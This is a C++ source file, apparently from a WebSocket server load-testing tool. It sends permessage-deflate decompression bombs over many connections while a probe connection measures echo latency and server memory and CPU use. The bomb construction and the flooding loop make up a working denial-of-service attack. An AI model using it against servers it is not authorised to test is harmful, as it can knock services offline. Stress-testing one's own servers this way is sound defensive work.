#include "bombs.h"

#include "clock.h"
#include "deflate.h"
#include "frames.h"
#include "handshake.h"
#include "histogram.h"
#include "net.h"
#include "payloads.h"
#include "procstat.h"

#include <sys/epoll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <cstdio>
#include <cstring>
#include <deque>
#include <map>
#include <vector>

namespace loadgen {

namespace {

constexpr size_t kBlock = size_t(1) << 20;
// The well-behaved client sends a small message every 20 ms whatever the
// echoes do, so that a stalled server shows as latency, not as fewer probes.
constexpr size_t kProbeSize = 64;
constexpr uint64_t kProbeIntervalNs = 20'000'000;
// After the attack, how long the probes still in flight may take to return.
constexpr uint64_t kEchoGraceNs = 5'000'000'000;
constexpr uint64_t kConnectTimeoutNs = 10'000'000'000;

// A permessage-deflate payload of about size/1000 bytes that inflates to
// `size` zero bytes. Deflating a second block of zeros after a first one
// gives bytes that only refer back to zeros, so they inflate to 1 MiB of
// zeros wherever zeros precede them, and can be repeated instead of
// compressing a gigabyte.
bool makeBombPayload(size_t size, int windowBits, std::string *payload, std::string *error)
{
    Deflater deflater(windowBits);
    if (!deflater.isValid()) {
        *error = "zlib refuses client_max_window_bits=" + std::to_string(windowBits);
        return false;
    }
    const std::string zeros(kBlock, '\0');
    const std::string first = deflater.compress(zeros, false);
    const std::string repeated = deflater.compress(zeros, false);
    // compress() drops each sync flush's 00 00 ff ff; between the blocks it
    // stays, only the message's last one goes (RFC 7692 section 7.2.1).
    const std::string flushTail("\0\0\xff\xff", 4);
    const size_t blocks = size / kBlock;
    payload->clear();
    payload->reserve(first.size() + (blocks - 1) * (flushTail.size() + repeated.size()));
    *payload += first;
    for (size_t i = 1; i < blocks; ++i) {
        *payload += flushTail;
        *payload += repeated;
    }
    return true;
}

struct Peer
{
    enum class State { Connecting, Handshaking, Open, Closed };

    int fd = -1;
    bool isProbe = false;
    State state = State::Connecting;
    std::string key;
    std::string handshakeIn;
    std::string out;            // still to be written from outPos
    size_t outPos = 0;
    bool writeArmed = false;

    FrameReader reader;
    uint8_t frameOpcode = 0;
    bool frameFin = false;
    std::string closePayload;
    size_t echoBytes = 0;       // of the probe echo being received
};

class Attack
{
public:
    explicit Attack(const BombConfig &config) : m_config(config) {}
    int run();

private:
    struct Sink;

    Peer &probe() { return m_peers.back(); }
    bool fail(const std::string &message);
    void onConnected(Peer &p);
    void onHandshakeData(Peer &p, uint64_t now);
    void onReadable(Peer &p, uint64_t now);
    void onProbeEcho(uint64_t now);
    void onClosed(Peer &p, const std::string &outcome);
    void flush(Peer &p);
    void setWriteInterest(Peer &p, bool on);
    void sendProbe(uint64_t dueAt);
    void startAttack(uint64_t now);
    void endAttack(uint64_t now);
    void report(uint64_t now);

    const BombConfig &m_config;
    int m_epoll = -1;
    std::vector<Peer> m_peers;      // the bombs, then the probe
    std::vector<uint8_t> m_readBuffer = std::vector<uint8_t>(256 * 1024);
    bool m_failed = false;
    int m_open = 0;

    bool m_started = false;
    bool m_over = false;
    uint64_t m_attackStart = 0;
    uint64_t m_attackEnd = 0;
    size_t m_bombWireBytes = 0;
    uint64_t m_bombBytesSent = 0;
    int m_bombsEnded = 0;
    std::map<std::string, int> m_outcomes;  // a close code, "eof", "reset" or "open": how many bombs

    std::string m_probePayload = makePayload(PayloadKind::Binary, kProbeSize, 1);
    std::string m_probeFrame = maskedFrame(Binary, m_probePayload, false);
    uint64_t m_nextProbeAt = 0;
    std::deque<uint64_t> m_probesDue;       // when each probe in flight was due, oldest first
    uint64_t m_probesSent = 0;
    uint64_t m_probesEchoed = 0;
    Histogram m_latency;
    uint64_t m_maxLatency = 0;

    long m_rssBefore = -1;
    long m_peakRss = -1;
    bool m_peakReset = false;
    double m_serverCpuStart = 0;
    double m_serverCpu = 0;
};

struct Attack::Sink
{
    Attack &attack;
    Peer &p;
    uint64_t now;

    void header(const FrameHeader &h)
    {
        if (p.state == Peer::State::Closed)
            return;
        p.frameOpcode = h.opcode;
        p.frameFin = h.fin;
        p.closePayload.clear();
        if (h.masked)
            attack.fail("the server sent a masked frame");
        else if (p.isProbe && h.opcode != Binary && h.opcode != Continuation && h.opcode != Close)
            attack.fail("the probe's echo has another opcode than the message sent");
    }
    void payload(uint8_t *data, size_t length)
    {
        if (p.state == Peer::State::Closed)
            return;
        if (p.frameOpcode == Close) {
            p.closePayload.append(reinterpret_cast<const char *>(data), length);
        } else if (p.isProbe) {
            if (p.echoBytes + length > kProbeSize
                || std::memcmp(attack.m_probePayload.data() + p.echoBytes, data, length) != 0)
                attack.fail("a probe's echo differs from the message sent");
            p.echoBytes += length;
        }
    }
    void frameEnd()
    {
        if (p.state == Peer::State::Closed || attack.m_failed)
            return;
        if (p.frameOpcode == Close) {
            const auto byte = [this](size_t i) { return unsigned(uint8_t(p.closePayload[i])); };
            // 1005: a close frame without a code.
            const unsigned code = p.closePayload.size() >= 2 ? byte(0) << 8 | byte(1) : 1005;
            if (p.isProbe)
                attack.fail("the server closed the probe connection with code " + std::to_string(code));
            else
                attack.onClosed(p, std::to_string(code));
        } else if (p.isProbe && p.frameFin) {
            if (p.echoBytes != kProbeSize)
                attack.fail("a probe's echo has " + std::to_string(p.echoBytes) + " bytes");
            p.echoBytes = 0;
            attack.onProbeEcho(now);
        }
    }
};

bool Attack::fail(const std::string &message)
{
    if (!m_failed)
        std::fprintf(stderr, "loadgen: %s\n", message.c_str());
    m_failed = true;
    return false;
}

void Attack::setWriteInterest(Peer &p, bool on)
{
    if (p.writeArmed == on)
        return;
    p.writeArmed = on;
    epoll_event event = {};
    event.events = uint32_t(EPOLLIN) | (on ? uint32_t(EPOLLOUT) : 0u);
    event.data.u32 = uint32_t(&p - m_peers.data());
    epoll_ctl(m_epoll, EPOLL_CTL_MOD, p.fd, &event);
}

void Attack::onConnected(Peer &p)
{
    if (const int error = connectError(p.fd)) {
        fail("cannot connect: " + std::string(std::strerror(error)));
        return;
    }
    // Registered for EPOLLOUT while connecting; from now on for reading.
    p.writeArmed = true;
    setWriteInterest(p, false);
    p.key = makeKey();
    const std::string request = clientRequest(m_config.host, m_config.port, m_config.path, p.key, !p.isProbe);
    if (send(p.fd, request.data(), request.size(), MSG_NOSIGNAL) != ssize_t(request.size())) {
        fail("cannot send the upgrade request");
        return;
    }
    p.state = Peer::State::Handshaking;
}

void Attack::onHandshakeData(Peer &p, uint64_t now)
{
    const size_t end = p.handshakeIn.find("\r\n\r\n");
    if (end == std::string::npos) {
        if (p.handshakeIn.size() > 16384)
            fail("oversized upgrade response");
        return;
    }
    std::string error;
    DeflateParams deflate;
    if (!checkResponse(p.handshakeIn.substr(0, end), p.key, !p.isProbe, &deflate, &error)) {
        fail("handshake: " + error);
        return;
    }
    if (!p.isProbe) {
        if (!deflate.enabled) {
            fail("the server did not accept permessage-deflate: no bomb can be sent");
            return;
        }
        // The bomb waits in `out` until every connection is open.
        std::string payload;
        if (!makeBombPayload(m_config.bombSize, deflate.clientMaxWindowBits, &payload, &error)) {
            fail(error);
            return;
        }
        m_bombWireBytes = payload.size();
        p.out = maskedFrame(Binary, payload, true);
    }
    std::string early = p.handshakeIn.substr(end + 4);
    p.handshakeIn = std::string();
    p.state = Peer::State::Open;
    if (!early.empty()) {
        Sink sink{*this, p, now};
        if (!p.reader.feed(reinterpret_cast<uint8_t *>(&early[0]), early.size(), sink))
            fail("malformed frame from the server");
    }
    if (++m_open == int(m_peers.size()))
        startAttack(now);
}

void Attack::onReadable(Peer &p, uint64_t now)
{
    for (;;) {
        const ssize_t received = read(p.fd, m_readBuffer.data(), m_readBuffer.size());
        if (received <= 0) {
            if (received < 0 && errno == EINTR)
                continue;
            if (received < 0 && (errno == EAGAIN || errno == EWOULDBLOCK))
                return;
            const std::string outcome = received == 0 ? "eof" : errno == ECONNRESET ? "reset" : "error";
            if (p.isProbe)
                fail("the server ended the probe connection (" + outcome + ")");
            else if (p.state != Peer::State::Open)
                fail("the server ended a connection in the handshake (" + outcome + ")");
            else
                onClosed(p, outcome);
            return;
        }
        if (p.state == Peer::State::Handshaking) {
            p.handshakeIn.append(reinterpret_cast<const char *>(m_readBuffer.data()), size_t(received));
            onHandshakeData(p, now);
        } else {
            Sink sink{*this, p, now};
            if (!p.reader.feed(m_readBuffer.data(), size_t(received), sink))
                fail("malformed frame from the server");
        }
        if (m_failed || p.state == Peer::State::Closed || size_t(received) < m_readBuffer.size())
            return;
    }
}

void Attack::onProbeEcho(uint64_t now)
{
    if (m_probesDue.empty()) {
        fail("an echo arrived that was not sent");
        return;
    }
    const uint64_t latency = now - m_probesDue.front();
    m_probesDue.pop_front();
    m_latency.record(latency);
    m_maxLatency = std::max(m_maxLatency, latency);
    ++m_probesEchoed;
}

void Attack::onClosed(Peer &p, const std::string &outcome)
{
    if (!m_started) {
        fail("the server ended a connection before the attack (" + outcome + ")");
        return;
    }
    // Closing at once: an attacker does not answer the close handshake.
    close(p.fd);
    p.fd = -1;
    p.state = Peer::State::Closed;
    ++m_outcomes[outcome];
    ++m_bombsEnded;
}

void Attack::flush(Peer &p)
{
    while (p.outPos < p.out.size()) {
        const ssize_t written = send(p.fd, p.out.data() + p.outPos, p.out.size() - p.outPos, MSG_NOSIGNAL);
        if (written < 0) {
            if (errno == EINTR)
                continue;
            if (errno == EAGAIN || errno == EWOULDBLOCK)
                break;
            if (p.isProbe) {
                fail("write on the probe connection: " + std::string(std::strerror(errno)));
                return;
            }
            // The server refused the bomb before reading all of it; its close
            // frame may still be there to read.
            p.out.clear();
            p.outPos = 0;
            break;
        }
        p.outPos += size_t(written);
        if (!p.isProbe)
            m_bombBytesSent += uint64_t(written);
    }
    if (p.outPos == p.out.size()) {
        p.out.clear();
        p.outPos = 0;
    }
    setWriteInterest(p, !p.out.empty());
}

void Attack::sendProbe(uint64_t dueAt)
{
    m_probesDue.push_back(dueAt);
    ++m_probesSent;
    probe().out += m_probeFrame;
    flush(probe());
}

void Attack::startAttack(uint64_t now)
{
    if (m_config.serverPid) {
        m_rssBefore = residentKb(m_config.serverPid);
        m_peakReset = resetPeakResident(m_config.serverPid);
        if (!m_peakReset)
            std::fprintf(stderr, "loadgen: warning: cannot reset the server's peak RSS (clear_refs, needs root);"
                                 " the peak is since its start\n");
        m_serverCpuStart = processCpuSeconds(m_config.serverPid);
    }
    m_started = true;
    m_attackStart = now;
    m_nextProbeAt = now;
    for (Peer &p : m_peers) {
        if (!p.isProbe && p.state == Peer::State::Open)
            flush(p);
    }
}

void Attack::endAttack(uint64_t now)
{
    m_over = true;
    m_attackEnd = now;
    if (m_config.serverPid) {
        m_peakRss = peakResidentKb(m_config.serverPid);
        m_serverCpu = processCpuSeconds(m_config.serverPid) - m_serverCpuStart;
    }
    // Bombs the server has not refused by the timeout.
    for (Peer &p : m_peers) {
        if (!p.isProbe && p.state == Peer::State::Open)
            onClosed(p, "open");
    }
}

void Attack::report(uint64_t now)
{
    // A probe never echoed waited at least until now: it counts in the maximum.
    for (const uint64_t dueAt : m_probesDue)
        m_maxLatency = std::max(m_maxLatency, now - dueAt);
    std::string outcomes;
    for (const auto &[outcome, count] : m_outcomes)
        outcomes += (outcomes.empty() ? "" : ",") + outcome + ":" + std::to_string(count);
    std::printf("result label=%s mode=bombs bombs=%d bomb_size=%zu bomb_wire_bytes=%zu bomb_bytes_sent=%llu"
                " close_codes=%s attack_s=%.3f timed_out=%d probe_size=%zu probe_interval_ms=%llu"
                " probes_sent=%llu probes_echoed=%llu p50_ms=%.2f p99_ms=%.2f max_ms=%.2f",
                m_config.label.empty() ? "-" : m_config.label.c_str(), m_config.bombs, m_config.bombSize,
                m_bombWireBytes, (unsigned long long)m_bombBytesSent, outcomes.c_str(),
                double(m_attackEnd - m_attackStart) / 1e9, m_outcomes.count("open") ? 1 : 0, kProbeSize,
                (unsigned long long)(kProbeIntervalNs / 1000000), (unsigned long long)m_probesSent,
                (unsigned long long)m_probesEchoed, double(m_latency.percentile(0.50)) / 1e6,
                double(m_latency.percentile(0.99)) / 1e6, double(m_maxLatency) / 1e6);
    if (m_config.serverPid) {
        std::printf(" server_rss_before_kb=%ld server_peak_rss_kb=%ld peak_reset=%s server_rss_after_kb=%ld"
                    " server_cpu_s=%.3f",
                    m_rssBefore, m_peakRss, m_peakReset ? "yes" : "no", residentKb(m_config.serverPid),
                    m_serverCpu);
    }
    std::printf("\n");
}

int Attack::run()
{
    m_epoll = epoll_create1(EPOLL_CLOEXEC);
    m_peers.resize(size_t(m_config.bombs) + 1);
    probe().isProbe = true;
    for (size_t i = 0; i < m_peers.size() && !m_failed; ++i) {
        Peer &p = m_peers[i];
        p.fd = startConnect(m_config.host, m_config.port);
        epoll_event event = {};
        event.events = EPOLLOUT;
        event.data.u32 = uint32_t(i);
        if (p.fd < 0 || epoll_ctl(m_epoll, EPOLL_CTL_ADD, p.fd, &event) < 0)
            fail("cannot connect: " + std::string(std::strerror(errno)));
    }
    const uint64_t connectDeadline = nowNs() + kConnectTimeoutNs;
    const uint64_t timeout = nanoseconds(m_config.timeout);

    std::vector<epoll_event> events(64);
    while (!m_failed) {
        uint64_t now = nowNs();
        uint64_t wakeAt = connectDeadline;
        if (!m_started) {
            if (now >= connectDeadline) {
                fail("timed out opening the connections");
                break;
            }
        } else if (!m_over) {
            for (; m_nextProbeAt <= now && !m_failed; m_nextProbeAt += kProbeIntervalNs)
                sendProbe(m_nextProbeAt);
            if (m_bombsEnded == m_config.bombs || now >= m_attackStart + timeout)
                endAttack(now);
            wakeAt = std::min(m_nextProbeAt, m_attackStart + timeout);
        }
        if (m_over) {
            if (m_probesDue.empty() || now >= m_attackEnd + kEchoGraceNs) {
                report(now);
                break;
            }
            wakeAt = m_attackEnd + kEchoGraceNs;
        }
        const int timeoutMs = wakeAt > now ? int((wakeAt - now + 999999) / 1000000) : 0;
        const int count = epoll_wait(m_epoll, events.data(), int(events.size()), timeoutMs);
        if (count < 0 && errno != EINTR) {
            fail("epoll_wait: " + std::string(std::strerror(errno)));
            break;
        }
        now = nowNs();
        for (int i = 0; i < count && !m_failed; ++i) {
            Peer &p = m_peers[events[i].data.u32];
            const uint32_t flags = events[i].events;
            if (p.state == Peer::State::Connecting) {
                onConnected(p);
                continue;
            }
            if (p.state != Peer::State::Closed && (flags & (EPOLLIN | EPOLLERR | EPOLLHUP)))
                onReadable(p, now);
            if (!m_failed && p.state == Peer::State::Open && (flags & EPOLLOUT))
                flush(p);
        }
    }
    for (Peer &p : m_peers) {
        if (p.fd >= 0)
            close(p.fd);
    }
    close(m_epoll);
    return m_failed ? 1 : 0;
}

} // namespace

int runBombs(const BombConfig &config)
{
    Attack attack(config);
    return attack.run();
}

} // namespace loadgen
